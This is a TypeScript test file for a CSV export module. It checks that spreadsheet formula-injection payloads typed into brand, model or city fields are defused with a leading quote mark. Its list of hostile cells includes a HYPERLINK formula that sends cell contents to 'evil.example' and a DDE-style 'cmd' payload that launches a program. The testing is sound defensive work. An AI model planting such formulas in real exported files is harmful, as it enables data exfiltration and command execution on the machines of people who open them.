import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvFile, csvLines } from './spreadsheet-csv.js';

/** Cells a customer can type into a brand, a model or a city, each of which a spreadsheet would run. */
const hostileCells = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+cmd',
  '-2+3',
  '\t=1',
  '\r=1',
  '"=1"',
  '=1+1\n=2+2',
  '\uFF1D1+1',
  '\uFF0Bcmd',
  '\uFF0D2+3',
  '\uFF20SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\n=1+1',
];

/** What a spreadsheet reads back: the file parsed as Excel and LibreOffice parse it. */
function readBack(csv: string): string[][] {
  return parse(csv, { delimiter: ';', bom: true, record_delimiter: '\r\n' });
}

describe('csvLines and csvFile', () => {
  it('defuses every hostile cell with a leading quote mark and keeps the rest of it as it was', () => {
    const csv = csvFile([['Märke', 'Stad'], ...hostileCells.map((cell) => [cell, 'Umeå'])]);
    const rows = readBack(csv);
    expect(rows).toHaveLength(1 + hostileCells.length);
    hostileCells.forEach((cell, index) => {
      expect(rows[index + 1], JSON.stringify(cell)).toEqual([`'${cell}`, 'Umeå']);
    });
  });

  it('quotes every field, defused or not, so nothing starts a formula outside quotes', () => {
    const lines = csvLines([['=1+1', 'Crescent', '', null, 12]]);
    expect(lines).toBe(`"'=1+1";"Crescent";"";"";"12"\r\n`);
  });

  it('leaves ordinary text, unicode and numbers alone, negative numbers included', () => {
    const rows = readBack(
      csvFile([
        ['Łódź', 'Ελληνικά', 'Кириллица', '漢字 🚲', 'Smith-Jones', 'a = b', "O'Brien"],
        [-5, 0, 2.5, 1200, null, '', '–'],
      ]),
    );
    expect(rows).toEqual([
      ['Łódź', 'Ελληνικά', 'Кириллица', '漢字 🚲', 'Smith-Jones', 'a = b', "O'Brien"],
      ['-5', '0', '2.5', '1200', '', '', '–'],
    ]);
  });

  it('keeps quotes, semicolons and line breaks inside one cell', () => {
    const cells = ['Cykel "Röd"; stor\r\nrad två', 'x";"=1+1', '";Umeå;"'];
    expect(readBack(csvFile([cells]))).toEqual([cells]);
  });

  it('starts a file with the byte order mark and ends every line with CRLF', () => {
    const csv = csvFile([['a'], ['b']]);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.slice(1)).toBe('"a"\r\n"b"\r\n');
    expect(csvLines([])).toBe('');
  });
});
